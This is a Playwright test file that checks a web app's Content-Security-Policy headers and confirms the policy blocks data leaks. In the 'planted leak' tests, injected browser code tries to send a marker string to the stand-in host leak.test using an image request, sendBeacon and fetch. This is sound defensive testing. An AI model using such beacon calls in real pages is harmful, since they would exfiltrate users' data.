import type { BrowserContext } from '@playwright/test';
import { addresses } from './addresses';
import { expect, test } from './fixtures';
import { watchViolations } from './policy-violations';
import { makeNow, open, pdfIsReady } from './steps';

// A policy, not good intentions, limits what the page may load and send.

const marker = 'MARKER7Q';

/** The requests of a context that hold the marker, plain or as written in an address. */
function leaksOf(context: BrowserContext): string[] {
  const leaks: string[] = [];
  context.on('request', (request) => {
    const all = `${request.url()} ${JSON.stringify(request.headers())} ${request.postData()}`;
    if (all.includes(marker)) leaks.push(request.url());
  });
  return leaks;
}

test('every page and the worker have a strict policy', async ({ request }) => {
  for (const path of [...addresses, '/nowhere']) {
    const headers = (await request.get(path)).headers();
    const policy = headers['content-security-policy'] ?? '';
    expect(policy, path).toContain("default-src 'none'");
    expect(policy, path).toMatch(/script-src 'self' 'sha256-/);
    expect(policy, path).not.toContain('unsafe');
    expect(policy, path).not.toMatch(/https?:|\*/);
    expect(headers['referrer-policy']).toBe('no-referrer');
    expect(headers['x-content-type-options']).toBe('nosniff');
  }
  const page = await (await request.get('/prepare')).text();
  const script = /\/_next\/static\/[^"]+\.js/.exec(page)?.[0] ?? '';
  expect((await request.get(script)).headers()['content-security-policy']).toBe(
    "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self' data:",
  );
});

test('the way to paper breaks no policy', async ({ page }) => {
  const violations = await watchViolations(page);
  await open(page);
  await makeNow(page);
  await pdfIsReady(page);
  expect(await violations()).toEqual([]);
});

test.describe('a planted leak', () => {
  test.use({ expectedErrors: /Content Security Policy|Refused to|ERR_BLOCKED_BY_CSP/ });

  test('to somewhere else is stopped by the policy', async ({ page, context }) => {
    const arrived: string[] = [];
    await context.route(/leak\.test/, (route) => {
      arrived.push(route.request().url());
      return route.fulfill({ body: '' });
    });
    await open(page);
    const stopped = await page.evaluate(async (told) => {
      const address = `https://leak.test/?${told}`;
      new Image().src = address;
      navigator.sendBeacon(address, told);
      return fetch(address).then(
        () => false,
        () => true,
      );
    }, marker);
    expect(stopped).toBe(true);
    expect(arrived).toEqual([]);
  });

  test('to the own server is seen by what looks for the marker', async ({ page, context }) => {
    const leaks = leaksOf(context);
    await open(page);
    expect(leaks).toEqual([]);
    await page.evaluate((told) => fetch(`/icon.svg?${told}`), marker);
    expect(leaks).toHaveLength(1);
  });
});
